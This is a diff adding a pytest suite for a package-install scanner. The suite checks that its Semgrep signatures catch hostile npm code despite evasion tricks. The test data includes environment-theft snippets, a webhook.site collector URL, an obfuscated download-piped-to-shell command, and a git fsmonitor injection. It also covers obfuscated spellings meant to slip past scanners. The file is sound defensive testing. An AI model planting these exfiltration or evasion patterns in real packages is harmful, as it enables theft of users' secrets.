@@ -1,0 +1,467 @@
+"""The matcher against files that want to be overlooked, and an engine that fails."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from safe_install.errors import SemgrepError
+from safe_install.model import Finding, Gap, GapKind, Inspection, Language, ReachableFile, Severity
+from safe_install.scan import semgrep, sightings
+from safe_install.scan.remembered import Remembered
+from safe_install.scan.semgrep import Matcher, find_engine, signatures_directory
+from tests.builders import an_inspection, as_bytes
+
+pytestmark = pytest.mark.semgrep
+
+THEFT = "const all = JSON.stringify(process.env);"
+COLLECTOR = 'const host = "https://webhook.site/x";'
+
+
+def a_file(content: str | bytes, path: str = "install.js", **more: Any) -> ReachableFile:  # noqa: ANN401
+    more = {"package": "example", "language": Language.JAVASCRIPT, **more}
+    return ReachableFile(path=path, content=as_bytes(content), **more)
+
+
+def match(*files: ReachableFile, remembered: Remembered | None = None, **more: Any) -> Inspection:  # noqa: ANN401
+    (inspection,) = Matcher(signatures_directory(), remembered, **more).match([an_inspection(files=files)])
+    return inspection
+
+
+def signatures(inspection: Inspection) -> set[tuple[str, int]]:
+    return {(finding.signature, finding.line) for finding in inspection.findings}
+
+
+# ------------------------------------------------------------------ files that want to be overlooked
+
+
+def test_a_comment_that_asks_for_silence_is_not_obeyed() -> None:
+    written = f"// nosemgrep\n{THEFT} // nosemgrep: sends-environment\n"
+    assert ("sends-environment", 2) in signatures(match(a_file(written)))
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "lib/x.min.js",
+        "tests/x.js",
+        "node_modules/a/dist/x.js",
+        "setup",
+        "LICENSE.txt",
+        "a/../../x\n.js",
+        ":inline-1",
+        "ö",
+    ],
+)
+def test_no_name_hides_a_file(path: str) -> None:
+    inspection = match(a_file(THEFT, path))
+    assert signatures(inspection) == {("sends-environment", 1)}
+    assert {finding.path for finding in inspection.findings} == {path}
+    assert inspection.gaps == ()
+
+
+def test_a_package_cannot_tell_the_engine_what_to_leave_out() -> None:
+    ignore = a_file("*\n", ".semgrepignore", language=Language.TEXT)
+    assert ("sends-environment", 1) in signatures(match(ignore, a_file(THEFT)))
+
+
+def test_a_package_cannot_make_the_engine_start_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    started = tmp_path / "git-was-started"
+    git = tmp_path / "bin" / "git"
+    git.parent.mkdir()
+    git.write_text(f"#!/bin/sh\ntouch {started}\n")
+    git.chmod(0o755)
+    subprocess.run(["git", "init", "-q", tmp_path / "tree"], check=True)  # noqa: S607 - any git will do
+    monkeypatch.setattr(os, "defpath", f"{git.parent}:{os.defpath}")
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tree"))
+    config = a_file(f'[core]\n\tfsmonitor = "touch {started}"\n', ".git/config", language=Language.TEXT)
+    assert ("sends-environment", 1) in signatures(match(config, a_file(THEFT)))
+    assert not started.exists()
+
+
+@pytest.mark.parametrize(
+    ("written", "line"),
+    [
+        (f"var q = 1 // remark\u2028{THEFT}", 1),
+        (f"// one\n// two\u2029{THEFT}", 2),
+        (f"#!/usr/bin/env node\r{THEFT}", 2),
+        (f"// remark\r\n// remark\r{THEFT}", 3),
+        (f"\ufeff#!/usr/bin/env node\n\n{THEFT}", 3),
+        ("\nJSON.stringify(process\n// remark\n[`env`])", 2),
+        ("\n\nJSON?.['stringify'](process?.env)", 3),
+        ("\n(0, JSON.stringify)(globalThis['pro' + 'cess'] ?? globalThis.process['\\x65nv'])", 2),
+        ("\n\\u004aSON.stringify(process.\\u{65}nv)", 2),
+    ],
+)
+def test_no_spelling_hides_code_and_the_line_is_the_editors(written: str, line: int) -> None:
+    assert ("sends-environment", line) in signatures(match(a_file(written)))
+
+
+def test_an_escaped_text_is_seen_by_signatures_that_read_text() -> None:
+    inspection = match(a_file(r'get("https://\x77\x65bhook.s\u0069te/x")'))
+    assert ("calls-collector", 1) in signatures(inspection)
+
+
+def test_a_huge_file_is_matched_as_text_and_told() -> None:
+    inspection = match(a_file("f();\n" * 250_000 + COLLECTOR))
+    assert signatures(inspection) == {("calls-collector", 250_001)}
+    assert [gap.kind for gap in inspection.gaps] == [GapKind.TOO_LARGE]
+
+
+def test_a_line_that_is_too_long_is_matched_as_text_and_told() -> None:
+    inspection = match(a_file(f"{'f();' * 30_000}{COLLECTOR}"))
+    assert signatures(inspection) == {("calls-collector", 1)}
+    assert [gap.kind for gap in inspection.gaps] == [GapKind.TOO_LARGE]
+
+
+def test_a_flood_of_decoys_hides_nothing() -> None:
+    inspection = match(a_file("process.env.A;\n" * 12_000 + COLLECTOR))
+    assert signatures(inspection) == {("calls-collector", 12_001)}
+    assert [gap.kind for gap in inspection.gaps] == [GapKind.UNMATCHED]
+
+
+def test_a_flood_that_the_engine_gives_up_on_is_a_gap() -> None:
+    inspection = match(a_file("webhook.site\n" * 12_000, language=Language.TEXT))
+    assert [gap.kind for gap in inspection.gaps] == [GapKind.UNMATCHED]
+
+
+@pytest.mark.parametrize("written", ["f(; {{{ " + THEFT, "yield = 5; import defer * as x from 'y';", "\ufffe\u0000f("])
+def test_a_file_that_is_not_parsed_is_a_gap(written: str) -> None:
+    assert GapKind.UNMATCHED in {gap.kind for gap in match(a_file(written)).gaps}
+
+
+def test_text_that_is_not_utf8_is_matched_and_shown() -> None:
+    inspection = match(a_file(b'// \xff\xfe\nrun("\xff"); get("https://webhook.site/\xe9");\n'))
+    (finding,) = inspection.findings
+    assert (finding.signature, finding.line) == ("calls-collector", 2)
+    assert finding.excerpt.startswith('run("\ufffd"); get("https://webhook.site/')
+
+
+@pytest.mark.parametrize("odd", [b"\xff", b"\xed\xa0\x80", b"\x00", b"\xf8\x88\x80\x80\x80", b"\xef\xbf\xbe"])
+@pytest.mark.parametrize("language", [Language.JAVASCRIPT, Language.SHELL, Language.TEXT])
+def test_no_odd_byte_blinds_the_engine(odd: bytes, language: Language) -> None:
+    written = b"x = '" + odd + b"'\nwebhook = 'https://webhook.site/x'\n"
+    assert ("calls-collector", 2) in signatures(match(a_file(written, language=language)))
+
+
+def test_what_a_comment_says_is_no_finding() -> None:
+    assert match(a_file(f"// {COLLECTOR}\n/* {COLLECTOR} */ run();\n")).findings == ()
+    assert match(a_file(f"# {COLLECTOR}\nrun\n", language=Language.SHELL)).findings == ()
+
+
+def test_what_only_looks_like_a_comment_is_a_finding() -> None:
+    assert ("calls-collector", 1) in signatures(match(a_file('get("// https://webhook.site/x")')))
+
+
+def test_a_disguised_shell_command_is_seen() -> None:
+    written = '#!/bin/sh\nc""url${IFS}https://example.invalid/x \\\n  | s\\h\n'
+    assert ("pipes-download-to-shell", 2) in signatures(match(a_file(written, language=Language.SHELL)))
+
+
+def test_typescript_is_matched_as_code() -> None:
+    written = f"type A<T> = {{ a: T }};\nconst x: A<string> = y;\n{THEFT}"
+    inspection = match(a_file(written, language=Language.TYPESCRIPT))
+    assert ("sends-environment", 3) in signatures(inspection)
+
+
+def test_python_is_matched_as_text_and_told() -> None:
+    inspection = match(a_file('url = "https://webhook.site/x"', language=Language.PYTHON))
+    assert ("calls-collector", 1) in signatures(inspection)
+    assert [gap.detail for gap in inspection.gaps] == ["signatures read Python as text only"]
+
+
+# ------------------------------------------------------------------ what is told
+
+
+def test_an_excerpt_is_one_short_line_as_the_package_wrote_it() -> None:
+    padding = "f();" * 1000
+    (finding,) = match(a_file(f'\n{padding}get("https://webhook.s\\x69te/x");{padding}\n')).findings
+    assert 'get("https://webhook.s\\x69te/x")' in finding.excerpt
+    assert finding.excerpt.startswith("…")
+    assert finding.excerpt.endswith("…")
+    assert len(finding.excerpt) < 170
+
+
+def test_a_signature_is_told_once_per_line() -> None:
+    (finding,) = match(a_file("JSON.stringify(process.env, JSON.stringify(process['env']))")).findings
+    assert finding.signature == "sends-environment"
+
+
+def test_one_signature_cannot_fill_the_report() -> None:
+    inspection = match(a_file(f"{COLLECTOR}\n" * 400))
+    assert len(inspection.findings) == sightings.MOST_PER_SIGNATURE
+
+
+def test_inspections_keep_their_order_and_what_they_had() -> None:
+    had = Finding(signature="package/x", severity=Severity.INFO, message="m", where="w")
+    gap = Gap(kind=GapKind.DYNAMIC, where="w", detail="d")
+    inspections = [
+        an_inspection("one", files=(a_file("f()"),), findings=(had,), gaps=(gap,)),
+        an_inspection("two", files=(a_file("f(; {", "a.js"), a_file(THEFT))),
+        an_inspection("three"),
+    ]
+    one, two, three = Matcher(signatures_directory(), None).match(inspections)
+    assert (one.findings, one.gaps) == ((had,), (gap,))
+    assert [(found.signature, found.where, found.path) for found in two.findings] == [
+        ("sends-environment", "example@1.0.0", "install.js")
+    ]
+    assert [gap.path for gap in two.gaps] == ["a.js"]
+    assert three == inspections[2]
+
+
+def test_a_finding_in_another_package_names_that_package() -> None:
+    (finding,) = match(a_file(THEFT, "bin.js", package="some-builder")).findings
+    assert finding.where == "some-builder"
+
+
+def test_a_habit_is_worse_together_with_another_of_the_same_package() -> None:
+    record = "module.exports = { h: os.hostname(), u: os.userInfo().username };"
+    network = 'require("https");'
+    own = match(a_file(record, "a.js"), a_file(network, "b.js"))
+    others = match(a_file(record, "a.js"), a_file(network, "b.js", package="got-alike"))
+    assert {each.signature: each.severity for each in own.findings}["reports-host"] is Severity.ERROR
+    assert {each.signature: each.severity for each in others.findings}["reports-host"] is Severity.WARNING
+
+
+# ------------------------------------------------------------------ what is remembered
+
+
+@pytest.fixture
+def starts(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
+    """List every start of the real engine."""
+    seen: list[list[str]] = []
+    real = subprocess.Popen
+
+    def started(command: list[str], **more: Any) -> subprocess.Popen[bytes]:  # noqa: ANN401
+        seen.append(command)
+        return real(command, **more)
+
+    monkeypatch.setattr(subprocess, "Popen", started)
+    return seen
+
+
+def test_everything_new_is_matched_in_one_start(starts: list[list[str]]) -> None:
+    inspections = [an_inspection(files=(a_file(f"{THEFT}\n// {number}"), a_file("f()"))) for number in range(30)]
+    matched = Matcher(signatures_directory(), None).match(inspections)
+    assert all(("sends-environment", 1) in signatures(inspection) for inspection in matched)
+    assert len(starts) == 1
+
+
+def test_nothing_is_started_for_what_is_remembered(tmp_path: Path, starts: list[list[str]]) -> None:
+    files = (a_file(THEFT), a_file(COLLECTOR, "b.js"), a_file("f();\n" * 250_000 + COLLECTOR, "huge.js"))
+    first = match(*files, remembered=Remembered(tmp_path / "store"))
+    again = match(*files, remembered=Remembered(tmp_path / "store"))
+    assert again == first
+    assert len(starts) == 1
+
+
+def test_only_the_changed_file_is_matched_again(tmp_path: Path, starts: list[list[str]]) -> None:
+    match(a_file("f()"), a_file("g()", "b.js"), remembered=Remembered(tmp_path / "store"))
+    inspection = match(a_file("f()"), a_file(THEFT, "b.js"), remembered=Remembered(tmp_path / "store"))
+    assert {finding.path for finding in inspection.findings} == {"b.js"}
+    assert len(starts) == 2
+
+
+def test_what_is_not_complete_is_not_remembered(tmp_path: Path, starts: list[list[str]]) -> None:
+    for _ in range(2):
+        assert match(a_file("f(; {"), remembered=Remembered(tmp_path / "store")).gaps
+    assert len(starts) == 2
+
+
+def test_other_signatures_make_everything_new(tmp_path: Path, starts: list[list[str]]) -> None:
+    rules = tmp_path / "rules"
+    (rules / "effect").mkdir(parents=True)
+    write_rule(rules / "effect" / "calls-f.yaml", "f(...)")
+    store = Remembered(tmp_path / "store")
+    before = Matcher(rules, store)
+    before.match([an_inspection(files=(a_file("f()"),))])
+    write_rule(rules / "effect" / "calls-f.yaml", "g(...)")
+    after = Matcher(rules, store)
+    (inspection,) = after.match([an_inspection(files=(a_file("f()"),))])
+    assert inspection.findings == ()
+    assert before.digest != after.digest
+    assert len(starts) == 2
+
+
+def test_a_remembered_row_that_makes_no_sense_is_matched_again(tmp_path: Path, starts: list[list[str]]) -> None:
+    class Forgetful(Remembered):
+        def get(self, keys: Any) -> dict[Any, str]:  # noqa: ANN401
+            return dict.fromkeys(keys, '[{"signature": 1}]')
+
+    inspection = match(a_file(THEFT), remembered=Forgetful(tmp_path / "store"))
+    assert ("sends-environment", 1) in signatures(inspection)
+    assert len(starts) == 1
+
+
+# ------------------------------------------------------------------ an engine that fails
+
+
+def write_rule(path: Path, pattern: str, name: str | None = None) -> None:
+    path.write_text(
+        f"rules:\n  - {{id: {name or path.stem}, languages: [js], severity: ERROR, message: Calls f.,"
+        f' metadata: {{confidence: HIGH, reads: code}}, pattern: "{pattern}"}}\n'
+    )
+
+
+@pytest.fixture
+def wrapped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Put a shell script in the engine's place; the test writes it, ``$REAL`` is the engine."""
+    real = find_engine().executable
+    wrapper = tmp_path / "bin" / "semgrep"
+    wrapper.parent.mkdir()
+    wrapper.write_text(f'#!/bin/sh\nexec {real} "$@"\n')
+    wrapper.chmod(0o755)
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
+    monkeypatch.setenv("PATH", f"{wrapper.parent}:{os.environ['PATH']}")
+    return wrapper
+
+
+def before(wrapper: Path, words: str) -> None:
+    """Let the wrapper do something before it becomes the engine."""
+    hashbang, last = wrapper.read_text().splitlines()
+    wrapper.write_text(f"{hashbang}\n{words}\n{last}\n")
+
+
+@pytest.mark.parametrize("broken", ["f(...", "$X = ="])
+def test_a_broken_signature_stops_the_run_and_is_named(tmp_path: Path, broken: str) -> None:
+    write_rule(tmp_path / "good-one.yaml", "f(...)")
+    write_rule(tmp_path / "bad-one.yaml", broken)
+    with pytest.raises(SemgrepError, match="bad-one") as raised:
+        Matcher(tmp_path, None).match([an_inspection(files=(a_file("f()"),))])
+    assert "bad-one.yaml" in (raised.value.hint or "")
+
+
+def test_a_signature_that_is_no_yaml_stops_the_run_and_is_named(tmp_path: Path) -> None:
+    (tmp_path / "bad-one.yaml").write_text("rules:\n  - id: x\n   languages: [js\n")
+    with pytest.raises(SemgrepError, match="bad-one"):
+        Matcher(tmp_path, None).match([an_inspection(files=(a_file("f()"),))])
+
+
+def test_no_signatures_at_all_stop_the_run(tmp_path: Path) -> None:
+    with pytest.raises(SemgrepError, match="no signatures"):
+        Matcher(tmp_path, None)
+
+
+def test_without_an_engine_the_fix_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
+    monkeypatch.setenv("PATH", str(tmp_path))
+    with pytest.raises(SemgrepError, match="not installed") as raised:
+        find_engine()
+    assert "pip install 'semgrep" in (raised.value.hint or "")
+
+
+def test_an_engine_that_is_too_old_is_refused(wrapped: Path) -> None:
+    wrapped.write_text("#!/bin/sh\necho 1.20.0\n")
+    with pytest.raises(SemgrepError, match=r"1\.20\.0 is not supported"):
+        find_engine()
+
+
+def test_an_engine_from_a_package_is_never_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    planted = tmp_path / "node_modules" / ".bin" / "semgrep"
+    planted.parent.mkdir(parents=True)
+    planted.write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
+    planted.chmod(0o755)
+    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))
+    monkeypatch.chdir(planted.parent)
+    monkeypatch.setenv("PATH", f"{planted.parent}::.")
+    with pytest.raises(SemgrepError, match="not installed"):
+        find_engine()
+    assert not (tmp_path / "started").exists()
+
+
+def test_an_engine_that_refuses_the_quick_flags_gives_the_same_answer(wrapped: Path) -> None:
+    files = (a_file(THEFT), a_file("f(; {", "b.js"), a_file(COLLECTOR, "c.ts", language=Language.TYPESCRIPT))
+    quick = match(*files)
+    before(wrapped, 'case "$*" in *--x-*) echo "semgrep scan: unknown option \'--x-parmap\'" >&2; exit 2;; esac')
+    assert match(*files) == quick
+
+
+def test_the_engine_gets_neutral_names_and_nothing_of_the_users(
+    wrapped: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    told = tmp_path / "told"
+    monkeypatch.setenv("NPM_TOKEN", "canary-token")
+    before(wrapped, f'(env; echo "$PWD"; ls -ld "$PWD/.." "$HOME"; ls) >> {told}')
+    match(a_file("f()", "evil name.min.js"), a_file("x['y']", "b"))
+    words = told.read_text()
+    assert "canary-token" not in words
+    assert str(Path.home()) not in words.replace(os.path.dirname(words.split("PATH=")[1].split(":")[0]), "")  # noqa: PTH120
+    assert words.split()[-3:] == ["0001.js", "0002.js", "0003.js"]
+    assert "drwx------" in words
+    (stage,) = {line for line in words.splitlines() if line.startswith(tempfile.gettempdir())}
+    assert not Path(stage).parent.exists()
+
+
+def test_a_file_that_hangs_the_engine_costs_the_others_nothing(wrapped: Path, tmp_path: Path) -> None:
+    pids = tmp_path / "pids"
+    before(wrapped, f"if grep -q HANG ./*.js 2>/dev/null; then sleep 600 & echo $! >> {pids}; sleep 600; fi")
+    inspection = match(a_file("f('HANG')"), a_file(THEFT, "b.js"), a_file(COLLECTOR, "c.js"), time_limit=4)
+    assert {finding.path for finding in inspection.findings} == {"b.js", "c.js"}
+    assert [(gap.path, gap.detail) for gap in inspection.gaps] == [("install.js", "semgrep did not finish in time")]
+    assert not any(runs(int(pid)) for pid in pids.read_text().split())
+
+
+def runs(pid: int) -> bool:
+    """Tell whether a process runs; one that ended and waits for its parent does not."""
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+def test_a_file_that_kills_the_engine_costs_the_others_nothing(wrapped: Path) -> None:
+    before(wrapped, "if grep -q CRASH ./*.js 2>/dev/null; then echo 'Fatal error' >&2; kill -SEGV $$; fi")
+    inspection = match(a_file("f('CRASH')"), a_file(THEFT, "b.js"))
+    assert {finding.path for finding in inspection.findings} == {"b.js"}
+    assert [gap.path for gap in inspection.gaps] == ["install.js"]
+
+
+def test_an_answer_without_end_is_not_read(wrapped: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(semgrep, "_LARGEST_ANSWER", 1 << 20)
+    before(wrapped, "case $1 in scan) exec yes;; esac")
+    inspection = match(a_file(THEFT))
+    assert [gap.detail for gap in inspection.gaps] == ["semgrep said more about it than we read"]
+
+
+def test_an_engine_that_never_works_stops_the_run(wrapped: Path) -> None:
+    before(wrapped, "case $1 in scan) echo 'libfoo.so is missing' >&2; exit 127;; esac")
+    with pytest.raises(SemgrepError, match=r"does not work \(exit 127\): libfoo\.so is missing"):
+        match(a_file(THEFT))
+
+
+def test_an_engine_that_is_another_than_it_says_is_refused(wrapped: Path) -> None:
+    before(wrapped, "case $1 in --version) echo 1.199.0; exit;; esac")
+    with pytest.raises(SemgrepError, match=r"not 1\.199\.0"):
+        match(a_file(THEFT))
+
+
+def test_a_file_that_the_engine_says_nothing_about_is_a_gap(wrapped: Path) -> None:
+    before(wrapped, "if [ $1 = scan ]; then rm -f 0002.js; fi")
+    inspection = match(a_file("f()"), a_file(THEFT, "b.js"))
+    assert [(gap.path, gap.detail) for gap in inspection.gaps] == [("b.js", "semgrep did not read it")]
+
+
+def test_stopping_leaves_no_copies_and_no_engine(
+    wrapped: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    pid = tmp_path / "pid"
+    before(wrapped, f'if [ $1 = scan ]; then echo "$$ $PWD" > {pid}; sleep 600; fi')
+
+    def stop(*_: object) -> str:
+        while not pid.exists() or not pid.read_text().endswith("\n"):
+            time.sleep(0.01)
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(semgrep, "_wait", stop)
+    with pytest.raises(KeyboardInterrupt):
+        match(a_file(THEFT))
+    number, stage = pid.read_text().split()
+    assert not Path(stage).parent.exists()
+    assert not runs(int(number))
